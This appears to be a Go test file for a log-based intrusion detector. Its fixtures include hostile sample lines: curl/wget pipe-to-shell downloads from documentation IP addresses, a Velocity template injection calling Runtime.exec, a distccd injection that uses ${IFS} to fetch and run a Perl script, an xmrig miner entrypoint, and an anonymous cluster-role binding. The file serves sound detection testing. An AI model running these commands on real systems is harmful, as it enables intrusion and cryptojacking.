package orders_test

import (
	"testing"

	"telltale/detect/detecttest"
	"telltale/detect/orders"
	"telltale/event"
)

func TestOrders(t *testing.T) {
	for _, tc := range []struct {
		name, message string
		count         int
	}{
		{"the answer of id", "digest: 'NEXT_REDIRECT;push;/login?a=uid=0(root) gid=0(root) groups=0(root);307;'", 1},
		{"code in a template", "params={v.template.custom=#set($rt=$x.class.forName('java.lang.Runtime'))+#set($ex=$rt.getRuntime().exec('id'))}", 1},
		{"an order to salt", "Executing command '(curl -s 198.51.100.7/sa.sh||wget -q -O- 198.51.100.7/sa.sh)|sh' in directory '/root'", 1},
		{"a maker's installer", "Executing command 'curl -fsSL https://get.docker.com | sh' in directory '/root'", 0},
		{"numbers of accounts", "started as uid=33 gid=33", 0},
		{"a stack trace", "at java.lang.Runtime.exec(Runtime.java:620)", 0},
		{"a job of somebody", "USER=alice IP=203.0.113.5 OPERATION=Submit Application Request TARGET=ClientRMService RESULT=SUCCESS", 0},
		{"somebody reads a page", "GET /docs/curl-and-wget | sharing", 0},
	} {
		got := detecttest.Run(t, orders.New(), detecttest.Scene(), "02:00:00 program-said service.name=x message="+quote(tc.message)+"\n")
		if len(got) != tc.count {
			t.Errorf("%s: %+v", tc.name, got)
		}
	}
}

func quote(s string) string {
	out := `"`
	for _, c := range s {
		if c == '"' || c == '\\' {
			out += `\`
		}
		out += string(c)
	}
	return out + `"`
}

func TestCluster(t *testing.T) {
	for _, tc := range []struct {
		name, message string
		count         int
	}{
		{"a binding by nobody", `{"verb":"create","user":{"username":"system:anonymous"},"objectRef":{"resource":"clusterrolebindings"},"responseStatus":{"code":201}}`, 1},
		{"a health check by nobody", `{"verb":"get","requestURI":"/healthz","user":{"username":"system:anonymous"},"responseStatus":{"code":200}}`, 0},
		{"nobody is refused", `{"verb":"create","user":{"username":"system:anonymous"},"objectRef":{"resource":"pods"},"responseStatus":{"code":403}}`, 0},
	} {
		f := orders.New().New(detecttest.Scene())
		e := event.Event{Kind: event.ProgramSaid}
		e.AddText(event.Message, tc.message)
		f.Observe(&e)
		n := 0
		for range f.Findings(t.Context()) {
			n++
		}
		if n != tc.count {
			t.Errorf("%s: %d findings", tc.name, n)
		}
	}
}

func TestWhoWasConnected(t *testing.T) {
	got := detecttest.Run(t, orders.New(), detecttest.Scene(), `02:00:00 log-line service.name=distccd process.pid=9 message="(dcc_check_client) connection from 203.0.113.5:41022"
02:00:01 log-line service.name=distccd process.pid=9 message="sh -c cd${IFS}/tmp;wget${IFS}203.0.113.66/d.pl;perl${IFS}d.pl main.c on localhost completed ok"
02:00:02 log-line service.name=distccd process.pid=10 message="gcc -c main.c on localhost completed ok"
`)
	if len(got) != 1 || got[0].Source != "203.0.113.5" {
		t.Errorf("%+v", got)
	}
}

func TestJobs(t *testing.T) {
	for message, count := range map[string]int{
		`entrypoint: wget http://203.0.113.66/x.tar.gz && tar xf x.tar.gz && ./xmrig -o pool.example.com:1123 -u z`: 1,
		`entrypoint: python train.py --data s3://bucket`:                                                            0,
		`entrypoint: wget https://data.example.org/set.tar.gz && tar xf set.tar.gz && python train.py`:              0,
	} {
		got := detecttest.Run(t, orders.New(), detecttest.Scene(), "02:00:00 program-said service.name=ray message="+quote(message)+"\n")
		n := 0
		for _, r := range got {
			if r.Mechanism == "job" {
				n++
			}
		}
		if n != count {
			t.Errorf("%s: %+v", message, got)
		}
	}
}
